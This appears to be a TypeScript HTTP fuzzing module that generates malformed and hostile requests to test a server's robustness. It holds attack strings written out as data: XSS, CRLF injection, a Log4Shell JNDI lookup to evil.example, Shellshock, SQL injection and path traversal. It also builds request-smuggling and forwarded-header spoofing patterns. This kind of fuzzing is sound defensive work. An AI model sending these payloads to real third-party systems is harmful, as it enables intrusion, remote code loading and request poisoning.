import { pickAuthority } from './address-families.ts';
import { type Family, known, words } from './hostile-requests.ts';
import { host, utf8 } from './raw-connection.ts';

/** Headers that something may take apart, and some that nothing reads. */
export const parsedNames = words(`Accept Accept-Encoding Accept-Language Authorization Cache-Control
  Connection Content-Encoding Content-Type Cookie Forwarded Host If-Match If-Modified-Since If-None-Match
  If-Range Origin Prefer Range Referer Sec-Fetch-Site TE User-Agent Via X-Forwarded-For X-Forwarded-Host
  X-Forwarded-Proto X-Request-Id`);

/** What a backtracking or quadratic parser is slow on, when it comes many times. */
export const repeatedParts = [' ', '\t', ' ;', 'a ', 'a, ', ...words(', ; = " a; % / 0-')];

const badNames = [...words('"X" X(Y) X@Y [ X/Y'), '', 'X Y', 'X\x00Y', 'X\xffY', 'X\tY', '\x7f'];
const badValues = [
  ...['a\x00b', 'a\x01b', 'a\x7fb', 'a\rb', '\xff\xfe\xfd', '\t \t', utf8('सेतु \u202e')],
  ...['<script>alert(1)</script>', '%0d%0aSet-Cookie: a=b', `\${jndi:ldap://evil.example/a}`],
  ...['() { :;}; echo bad', '" onload="', "' OR 1=1 --", '../../etc/passwd'],
];
const names =
  words(`User-Agent Referer Cookie Accept Accept-Language Authorization Origin Sec-Fetch-Site
  X-Request-Id Traceparent Content-Type Cache-Control Pragma Via Upgrade Connection Expect From
  Max-Forwards Proxy-Authorization X-Custom __proto__ constructor toString`);
const forwarded =
  words(`X-Forwarded-Host X-Forwarded-Server X-Host X-Original-Host X-HTTP-Host-Override
  Forwarded X-Forwarded-Proto X-Forwarded-Scheme X-Forwarded-Ssl Front-End-Https X-Forwarded-Port
  X-Forwarded-Prefix X-Forwarded-For X-Real-IP True-Client-IP CF-Connecting-IP X-Original-URL
  X-Rewrite-URL X-HTTP-Method-Override X-Method-Override X-Request-Id`);
const encodings = [
  ...['Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked, chunked'],
  ...['Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity, chunked, gzip'],
  ...['Transfer-Encoding : chunked', 'Transfer-Encoding\t: chunked', ' Transfer-Encoding: chunked'],
  ...['Transfer-Encoding: \x0bchunked', 'Transfer-Encoding: chunked\x00'],
  ...['Transfer-Encoding: "chunked"', 'Transfer-Encoding: chunked;q=1'],
  'Transfer-Encoding:\r\n chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  ...['X: y\nTransfer-Encoding: chunked', 'X: y\rTransfer-Encoding: chunked'],
  'Transfer_Encoding\x00: chunked',
];
const lengths = ['5 5', '5, 5', '', ' ', '\xb2', '5\x00'].concat(
  words('+5 -1 0x5 5,6 1e1 5.0 99999999999999999999 5; five'),
);
const badLines = [
  ...['Content-Length: 0\r', 'X\nContent-Length: 40', 'Content-Length: 40\x00'],
  ...['Content-Length : 40', 'Content-Length\x0b: 40', 'Content-Length: 4\r\n 0'],
];
const badChunks = [
  ...['g\r\n', '-1\r\nx\r\n', '+5\r\nhello\r\n', '0x5\r\nhello\r\n', '5\r\nhello!!\r\n', '\r\n'],
  ...['fffffffffffffffff\r\nhello\r\n', '5\rhello\r\n', '5\nhello\r\n', '5 5\r\nhello\r\n'],
  ...[' 5\r\nhello\r\n', '5\x00\r\nhello\r\n', '5;\x00\r\nhello\r\n'],
  `5;${'a'.repeat(20_000)}\r\nhello\r\n`,
];

/** Bad methods, headers and bodies. */
export const messageFamilies: Readonly<Record<string, readonly [count: number, family: Family]>> = {
  /** Names and values that are none, folded lines, the same name many times, thousands of names. */
  headers: [
    400,
    ({ pick, below, list, marker, note }) => {
      const [name, value] = [pick(names), `${pick(badValues)}${marker}`];
      const upgrade = pick(['upgrade', 'close, upgrade', 'host', 'x-request-id', 'TE, close']);
      const lines = [
        () => [`${pick(badNames)}: ${marker}`],
        () => [`${name}: ${value}`],
        () => [`${name}: a`, ` folded ${marker}`],
        () => list(2 + below(40), () => `${name}: ${value}`),
        () => list(500 + below(2_500), (index) => `X-${index}: ${marker}`),
        () => [`X-Long: ${marker}${'a'.repeat(pick([100, 4_000, 20_000, 80_000]))}`],
        () => [marker, `:${marker}`, name].slice(below(3)),
        () => [
          ...[`Connection: ${upgrade}`, `HTTP2-Settings: ${marker}`],
          `Upgrade: ${pick(words(`websocket h2c TLS/1.0 ${marker}`))}`,
        ],
        () => [`Expect: ${pick(['100-continue', '200-ok', marker, ''])}`, note],
        () => {
          const part = pick(repeatedParts);
          const long = part.repeat(pick([900, 5_000, 15_000]) / part.length);
          return [`${pick(parsedNames)}: a${long}a`, note];
        },
      ];
      return { target: pick(known), headers: [host, ...pick(lines)()] };
    },
  ],
  /** Hosts that are not ours and headers that would say so, if anybody believed them. */
  host: [
    450,
    (draw) => {
      const { pick, below, chance, list, marker, note } = draw;
      const lines = list(below(5), () => {
        const value = pick([
          ...words(`evil.example ${marker}.example https 127.0.0.1 /admin //${marker} DELETE`),
          ...[`host=${marker};proto=https;for="[::1]:80"`, `1.2.3.4, ${marker}, ::1`],
          `${'9.9.9.9, '.repeat(200)}${marker}`,
        ]);
        return `${pick(forwarded)}: ${value}`;
      });
      const hosts = [0.9, 0.15].flatMap((share) =>
        chance(share) ? [`Host: ${pickAuthority(draw)}`] : [],
      );
      const target = pick(
        words(`/About/ /EVENTS //about / /events /no-such-page /feed.atom
          /newsletter/confirm?token=x`),
      );
      return { target, headers: [...hosts, ...lines, note] };
    },
  ],
  /** Methods that nobody needs, that nobody knows, and what is no method. */
  method: [
    350,
    ({ pick, chance, marker, note }) => {
      const method = pick([
        ...words(`TRACE TRACK CONNECT OPTIONS PUT DELETE PATCH PROPFIND SEARCH PURGE DEBUG LINK
          M-SEARCH QUERY get Get GETT G PRI ${marker} <script>`),
        ...['', '\xff', 'GET\t'],
      ]);
      const version = pick([
        ...words(
          `HTTP/1.1 HTTP/1.1 HTTP/1.1 HTTP/1.0 HTTP/2.0 HTTP/0.9 HTTP/1.2 HTTP/9 http/1.1 ICE/1.0`,
        ),
        '',
      ]);
      const target = chance(0.1) ? pick(['*', 'circle.example:443']) : pick(known);
      const headers = [host, note, `X-Forwarded-For: ${marker}`];
      return { method, target, version, headers, after: 'half-close' };
    },
  ],
  /** Ranges, conditions and encodings that are nonsense, or far too many. */
  conditions: [
    450,
    ({ pick, below, chance, list, marker, note }) => {
      const many = list(1 + below(2_000), (index) => `${index}-${index + below(9)}`).join();
      const ranges = [
        ...words(`bytes=${many} bytes=${below(1e9)}- bytes=-${below(1e9)} bytes=-0 bytes=5-1 bytes=0-0,-1
          bytes=99999999999999999999- bytes=a-b bytes ${marker}=0-1 bytes=0-18446744073709551615
          bytes=0x0-0x9`),
        ' bytes = 0 - 1',
      ];
      const tags = [
        ...words(`"${marker}" W/"${marker}" * ${marker} " W/`),
        ...['\xff', '', '*, "a"', `"a", ${'"b", '.repeat(300)}"${marker}"`],
      ];
      const dates = [
        ...['Thu, 01 Jan 1970 00:00:00 GMT', 'Fri, 31 Dec 9999 23:59:59 GMT', ''],
        ...['yesterday', '9'.repeat(40), marker, '-1'],
      ];
      const accepted = [
        ...words(
          `${marker} br;q=2 br;q=-1 br;q=NaN br;q=1e9 br;q=0.0000 br;q=${marker} * ;;;=,,, \xff\xfe`,
        ),
        ...['identity;q=0, *;q=0', 'BR, GZIP;Q=1', 'zstd;q=1, br;q=0', 'constructor, __proto__'],
        ...['br,'.repeat(1 + below(3_000)), `gzip;q=0.${'9'.repeat(below(50))};${marker}`],
      ];
      const sometimes = (share: number, name: string, values: readonly string[]) =>
        chance(share) ? [`${name}: ${pick(values).slice(0, 9_000)}`] : [];
      return {
        method: chance(0.15) ? 'HEAD' : 'GET',
        target: pick(known),
        headers: [
          host,
          ...sometimes(0.6, 'Range', ranges),
          ...sometimes(0.4, pick(words('If-None-Match If-Match If-Range')), tags),
          ...sometimes(0.4, pick(words('If-Modified-Since If-Unmodified-Since If-Range')), dates),
          ...sometimes(0.5, 'Accept-Encoding', accepted),
          note,
        ],
      };
    },
  ],
  /** Requests that two programs could cut into different pieces (RFC 9112, sections 6.3 and 11.2). */
  smuggling: [
    400,
    ({ pick, below, marker, note }) => {
      // What is hidden behind a request whose end is in doubt: a response to it would be seen.
      const inner = `GET /${marker} HTTP/1.1\r\n${host}\r\n\r\n`;
      const [body = '', ...lines] = pick<readonly string[]>([
        [`0\r\n\r\n${inner}`, 'Content-Length: 6', 'Transfer-Encoding: chunked'],
        [`0\r\n\r\n${inner}`, 'Transfer-Encoding: chunked', `Content-Length: ${below(99)}`],
        [`0\r\n\r\n${inner}`, pick(encodings), 'Content-Length: 5'],
        [`hello${inner}`, `Content-Length: ${pick(lengths)}`],
        [inner, 'Content-Length: 0', `Content-Length: ${1 + below(99)}`],
        [`${pick(badChunks)}0\r\n\r\n${inner}`, 'Transfer-Encoding: chunked'],
        [inner, pick(badLines)],
      ]);
      const type = 'Content-Type: application/x-www-form-urlencoded';
      const headers = [host, note, type, ...lines];
      return { method: 'POST', target: pick(known), headers, body, connection: 'closed' };
    },
  ],
  /** Bodies where nobody wants one, too large, cut off, and of types nobody reads. */
  body: [
    350,
    ({ pick, below, chance, marker }) => {
      const size = pick([1, 100, 4_000, 5_000, 60_000, 65_537, 200_000]);
      const part = pick(['a', '\x00', '\xff', '%', '&', '{"a":', '<!--']);
      const text = `${marker}${part.repeat(size)}`.slice(0, size);
      const type = pick([
        ...words(`application/x-www-form-urlencoded application/json text/plain multipart/form-data
          application/xml application/reports+json text/${marker} ; \xff`),
        ...[
          'application/x-www-form-urlencoded; charset=utf-7',
          'multipart/form-data; boundary=',
          '',
        ],
      ]);
      const at = below(size);
      const chunks = [text.slice(0, at), text.slice(at)].filter(Boolean);
      const chunked = chunks.map(
        (each) => `${each.length.toString(16)};x=${marker}\r\n${each}\r\n`,
      );
      const [line, body, connection] = pick([
        [`Content-Length: ${size}`, text, size > 65_536 ? 'closed' : 'kept'],
        [
          'Transfer-Encoding: chunked',
          `${chunked.join('')}0\r\nTrailer: ${marker}\r\n\r\n`,
          'kept',
        ],
        // Less than was promised, and then the end.
        [`Content-Length: ${size + 1 + below(90)}`, text, 'cut'],
        // A type and nothing that it could be the type of.
        [`X-Nothing: ${marker}`, '', 'kept'],
        // More than can be.
        [`Content-Length: ${pick([65_537, 1e9, 2 ** 53, 1e15])}`, text.slice(0, 100), 'cut'],
      ] as const);
      return {
        method: pick(words('POST PUT PATCH DELETE GET OPTIONS HEAD')),
        target: pick([...known, '/no-such-page', '/%zz', '/About/']),
        headers: [
          ...[host, `Content-Type: ${type}`, line],
          ...(chance(0.2) ? [`Content-Encoding: ${pick(['gzip', 'br', marker])}`] : []),
          ...(chance(0.2) ? ['Expect: 100-continue'] : []),
        ],
        body,
        ...(connection === 'cut' ? { connection: 'closed', after: 'half-close' } : { connection }),
      };
    },
  ],
  /** Too long an address, at and about the limits. */
  size: [
    150,
    ({ pick, marker }) => {
      const size = pick([4_000, 4_095, 4_096, 4_097, 8_000, 16_000, 17_000, 70_000, 300_000]);
      const part = pick(['a', '%41', '/', '&a=']);
      return { target: `${pick(known)}?${marker}${part.repeat(size)}`.slice(0, size) };
    },
  ],
  /** Requests of which only a part ever comes. */
  part: [
    100,
    ({ below, chance, marker }) => ({
      target: `/${marker}`,
      headers: [host, 'Accept: */*', 'Cookie: a=b'],
      cutTo: 8 + marker.length + below(50),
      connection: 'closed',
      after: chance(0.95) ? 'half-close' : 'silence',
    }),
  ],
};
